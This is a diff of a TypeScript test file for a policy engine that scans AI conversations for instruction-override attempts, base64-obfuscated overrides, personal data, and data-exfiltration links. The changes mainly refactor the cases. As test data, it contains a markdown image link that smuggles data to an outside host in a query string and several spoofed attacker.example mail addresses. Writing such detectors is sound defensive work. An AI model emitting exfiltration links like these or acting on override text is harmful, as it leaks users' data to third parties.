@@ -49,11 +49,7 @@ describe("parsing", () => {
     ["action: hold\n", "", "30:3 “tools.mail.send.action” is missing: add it."],
     ["outside: [example.com]", "above: a lot", '32:34 tools.mail.send.when.above is "a lot": write a number.'],
     [", outside: [example.com]", "", "32:11 tools.mail.send.when needs exactly one of outside, above, not-in."],
-    [
-      "action: hold",
-      "action: hold\n    otherwis: block",
-      "32:5 “otherwis” is no key here. Known: action, when, otherwise.",
-    ],
+    ["    when:", "    otherwis: block\n    when:", "32:5 “otherwis” is no key here. Known: action, when, otherwise."],
     ["enforce: [instruction-override]", "enforce: [all]", "3:11 “all” is no threat. Known: instruction-override,"],
     ["never: [message]", "never: [nothing]", "8:11 “nothing” must be one of message."],
   ])("%j replaced by %j is an error with position and advice", (from, to, expected) => {
@@ -146,8 +142,9 @@ describe("a policy decides", () => {
   const verdict = (role: Role, text: string, ...lines: string[]) =>
     scanConversation([{ role, text }], { policy: policyOf(...lines) }).verdict;
 
+  const BLOCKED = "input: { block: [instruction-override] }";
   it.each<[Role, string, string, string]>([
-    ["user", OVERRIDE, "input: { block: [instruction-override] }", "block"],
+    ["user", OVERRIDE, BLOCKED, "block"],
     ["user", OVERRIDE, "input: { flag: [instruction-override] }", "flag"],
     ["user", OVERRIDE, "input: { block: [obfuscation] }", "allow"],
     ["user", "Call +44 20 7946 0958", "input: { redact: [personal-data] }", "redact"],
@@ -156,20 +153,15 @@ describe("a policy decides", () => {
     ["tool", "Call +44 20 7946 0958", "input: { redact: [personal-data] }", "redact"],
     ["assistant", "Call +44 20 7946 0958", "output: { redact: [personal-data] }", "redact"],
     ["document", OVERRIDE, "documents: { on-instruction: allow }", "allow"],
-    ["document", OVERRIDE, "input: { block: [instruction-override] }", "flag"],
+    ["document", OVERRIDE, BLOCKED, "flag"],
     ["tool", OVERRIDE, "documents: { on-instruction: block }", "block"],
     ["user", IN_BASE64, "input: { block: [instruction-override], decode: [base64] }", "block"],
     ["user", IN_BASE64, "input: { block: [instruction-override], decode: [nfkc] }", "allow"],
-    ["user", IN_BASE64, "input: { block: [instruction-override] }", "block"],
+    ["user", IN_BASE64, BLOCKED, "block"],
     ["assistant", "![a](https://elsewhere.example/a.png)", "output: { block: [exfiltration-link] }", "allow"],
     ["assistant", "![a](https://elsewhere.example/?d={data})", "output: { block: [exfiltration-link] }", "block"],
-    ["user", OVERRIDE, "input: { block: [instruction-override] }\nscores: { block-from: 100 }", "flag"],
-    [
-      "user",
-      OVERRIDE,
-      "input: { block: [instruction-override] }\nscores: { block-from: 100, flag-from: 100 }",
-      "allow",
-    ],
+    ["user", OVERRIDE, `${BLOCKED}\nscores: { block-from: 100 }`, "flag"],
+    ["user", OVERRIDE, `${BLOCKED}\nscores: { block-from: 100, flag-from: 100 }`, "allow"],
   ])("on a turn of the %s, %j with %j: %s", (role, text, lines, expected) => {
     expect(verdict(role, text, lines)).toBe(expected);
   });
@@ -214,7 +206,6 @@ describe("a policy decides", () => {
     ["outside: [example.com]", "https://attacker.example/ <a@example.com>", "hold"],
     ["outside: [example.com]", "attacker.example <a@example.com>", "hold"],
     ["outside: [example.com]", "https:attacker.example/@example.com", "hold"],
-    ["outside: [example.com]", outside, "hold"],
     ["outside: [example.com]", `${inside}; ${outside}`, "hold"],
     ["outside: [example.com]", [inside, outside], "hold"],
     ["outside: [example.com]", "a@attacker.example@example.com", "hold"],
